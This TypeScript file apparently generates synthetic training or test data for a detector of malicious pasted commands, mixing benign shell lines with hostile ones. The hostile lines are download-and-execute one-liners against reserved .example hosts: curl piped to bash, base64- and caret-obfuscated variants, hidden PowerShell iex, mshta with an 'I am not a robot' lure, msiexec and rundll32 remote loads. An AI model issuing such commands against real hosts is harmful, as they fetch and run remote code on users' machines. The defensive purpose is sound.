import type { Random } from '../../src/core/random.ts'
import { pick } from '../../src/core/random.ts'

/** Commands of both kinds from patterns, for a run without data. Hosts end in `.example`: nobody can register those. */
export function inventedCommands(random: Random): { malicious: string[]; benign: string[]; clipboard: string[] } {
  const host = (): string => `${pick(random, ['cdn', 'get', 'fix', 'dl'])}${Math.floor(random.next() * 1000)}.example`
  const file = (ending: string): string =>
    `${pick(random, ['upd', 'setup', 'agent', 'zoom'])}${Math.floor(random.next() * 100)}.${ending}`
  const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
    Buffer.from(text, encoding).toString('base64')
  const malicious: readonly (() => string)[] = [
    () => `curl -fsSL https://${host()}/${file('sh')} | ${pick(random, ['bash', 'sh', 'zsh', 'sudo bash'])}`,
    () => `/bin/${pick(random, ['bash', 'zsh'])} -c "$(curl -s https://${host()}/${file('sh')})"`,
    () => `echo ${base64(`curl -s https://${host()}/a | bash`)} | base64 -D | bash`,
    () => `powershell -w hidden -nop -c "iex(irm https://${host()}/${file('ps1')})"`,
    () => `powershell -e ${base64(`iwr https://${host()}/a.ps1 | iex`, 'utf16le')}`,
    () => `mshta https://${host()}/${file('hta')} # I am not a robot`,
    () => `cmd /c curl -s https://${host()}/${file('bat')} -o %temp%\\a.bat && %temp%\\a.bat`,
    () => `msiexec /i https://${host()}/${file('msi')} /qn`,
    () => `osascript -e 'do shell script "curl -s https://${host()}/a | zsh"'`,
    () => `rundll32 \\\\${host()}@80\\s\\a.dll,Start`,
    () => `set a=cu&&set b=rl&&%a%%b% -o %temp%\\x.exe http://${host()}/x && %temp%\\x.exe`,
    () => `p^o^w^e^r^s^h^e^l^l -c "iex (iwr https://${host()}/a)"`,
    () => `python3 -c "import urllib.request as u;exec(u.urlopen('https://${host()}/a').read())"`,
    () => `wget -q https://${host()}/agent -O /tmp/agent; chmod +x /tmp/agent; /tmp/agent &`,
  ]
  const benign: readonly (() => string)[] = [
    () => `curl -s https://api.${host()}/v1/health | jq .`,
    () => `git clone https://github.com/org/${file('git')} && cd repo && npm ci`,
    () => `curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh`,
    () => `kubectl get secret db -o jsonpath='{.data.url}' | base64 -d`,
    () => `wget https://${host()}/manual.pdf`,
    () => `powershell -NoProfile -File C:\\Scripts\\${file('ps1')}`,
    () => `tar xzf ${file('tgz')} -C /opt`,
    () => `docker run --rm -p 80:80 nginx`,
    () => `osascript -e 'tell application "Finder" to activate'`,
    () => `eval "$(ssh-agent -s)"`,
    () => `certutil -hashfile ${file('exe')} SHA256`,
    () => `ssh admin@${host()} "sudo systemctl restart app"`,
  ]
  const many = (makers: readonly (() => string)[]): string[] =>
    makers.flatMap((make) => Array.from({ length: 20 }, make))
  return { malicious: many(malicious), benign: many(benign), clipboard: [] }
}
